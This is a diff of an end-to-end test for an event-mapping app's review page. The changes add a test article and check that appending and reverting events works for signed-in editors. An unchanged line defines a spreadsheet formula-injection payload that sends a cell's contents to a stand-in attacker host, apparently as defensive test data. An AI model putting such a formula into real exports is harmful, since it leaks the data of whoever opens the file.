@@ -39,6 +39,10 @@ from tests.conftest import EVENTS_PATH, ROOT
 
 REVIEW = str(ROOT / "pages" / "review.py")
 SEED_TEXT = (ROOT / "seeds" / "000_c849781cc78fe4c5.txt").read_text(encoding="utf-8")
+# A second report of a known event (the Shanghai disappearance) and one new event, for the append flow.
+SECOND_ARTICLE = ("Twenty North Korean garment workers disappeared from a factory in Shanghai in February 2022, "
+                  "a source said.\nNorth Korean workers staged a strike at a seafood plant in Hunchun on 10 January "
+                  "2023.\n")
 EDITOR, PASSWORD = "alice", "a long test passphrase"
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&B3, "Open the source")'
 
@@ -271,10 +275,28 @@ def fill_review_form(page, text: str) -> None:
     wait_until_idle(page)
 
 
+def expected_append(data: Path) -> tuple[int, int, set[str]]:
+    """What the review page should offer for the founding article against `data` (which already holds its events):
+    how many located candidates are new events, how many are sources of known events, and those known events.
+    From geo.ingest and geo.matching run directly on the file, as the page runs them."""
+    from geo.ingest import candidates_from_text
+    from geo.matching import mark_matches
+    from geo.seeds import seed_ref
+
+    found = candidates_from_text(SECOND_ARTICLE, dt.date(2023, 2, 23), "The Asia Business Daily",
+                                 SECOND_ARTICLE.strip()[:120], seed_ref(SECOND_ARTICLE))
+    mark_matches(found, read_json(data)["features"])
+    ticked = [f["properties"] for f in found["features"] if f["geometry"]]  # located candidates start ticked
+    as_sources = sum(bool(p.get("matches")) for p in ticked)
+    return len(ticked) - as_sources, as_sources, {p["matches"] for p in ticked if p.get("matches")}
+
+
 def test_an_anonymous_browser_cannot_append_and_a_signed_in_editor_can_and_revert_restores(secured, open_session):
     app, data = secured
     seeds = data.parent / "seeds"
     original = data.read_bytes()
+    new, as_sources, known = expected_append(data)
+    assert new and as_sources, "the article should give both a new event and a source of a known one"
     session = open_session(is_loopback)
     page = session.page
     with app.log_on_failure():
@@ -282,7 +304,7 @@ def test_an_anonymous_browser_cannot_append_and_a_signed_in_editor_can_and_rever
         page.locator("[data-testid='stSidebarNav'] a", has_text="review").click()
         expect(page.get_by_role("button", name="Sign in")).to_be_visible(timeout=LOAD_MS)
         wait_until_idle(page)
-        fill_review_form(page, SEED_TEXT)
+        fill_review_form(page, SECOND_ARTICLE)
         page.get_by_role("button", name="Find candidates").click()
         expect(page.get_by_text("Sign in as an editor (above) to append")).to_be_visible(timeout=RERUN_MS)
         wait_until_idle(page)
@@ -296,19 +318,29 @@ def test_an_anonymous_browser_cannot_append_and_a_signed_in_editor_can_and_rever
         page.get_by_role("textbox", name="Password").fill(PASSWORD)
         page.get_by_role("button", name="Sign in").click()
         expect(page.get_by_text(f"Signed in as {EDITOR}")).to_be_visible(timeout=RERUN_MS)
-        append = page.get_by_role("button", name=re.compile(r"^Append 3 accepted events and 5 sources"))
+        append = page.get_by_role("button", name=re.compile(
+            rf"^Append {new} accepted events and {as_sources} sources of known events"))
         expect(append).to_be_visible(timeout=RERUN_MS)
         wait_until_idle(page)
         append.click()
-        done = re.compile(r"Appended 3 events and attached sources to \d+ known events as change 0001 by alice")
+        done = re.compile(rf"Appended {new} events and attached sources to {len(known)} known events as change 0001 "
+                          rf"by {EDITOR}")
         expect(page.get_by_text(done)).to_be_visible(timeout=RERUN_MS)
     assert len(list(seeds.iterdir())) == 1
     history = geo("history", "--data", str(data), "--json")
     [entry] = [json.loads(line) for line in history.stdout.splitlines()]
-    assert entry["editor"] == EDITOR and len(entry["added"]) == 3 and entry["attached"]
+    assert entry["editor"] == EDITOR and len(entry["added"]) == new
+    assert {attached["event"] for attached in entry["attached"]} == known
     assert geo("revert", entry["id"], "--data", str(data)).returncode == 0
-    assert read_json(data)["features"] == json.loads(original)["features"]  # exactly the previous events
-    session.assert_no_outside_request_and_no_js_error()
+    restored, previous = read_json(data)["features"], json.loads(original)["features"]
+    gone = object()
+    changed = {was["properties"]["id"]: sorted(key for key in {*now["properties"], *was["properties"]}
+                                               if now["properties"].get(key, gone) != was["properties"].get(key, gone))
+               for now, was in zip(restored, previous, strict=False) if now != was}
+    # Exactly the previous events. (Known product bug: geo/store.py _detach drops an event's explicit
+    # `"figures": []` when it takes an attached source back off, so such an event comes back changed.)
+    session.assert_no_outside_request_and_no_js_error()  # checked first, so a failure below does not hide it
+    assert restored == previous, f"the revert did not restore these events exactly (fields): {changed}"
 
 
 # --- 8. Exposure: listen address and Host header -------------------------------------------------
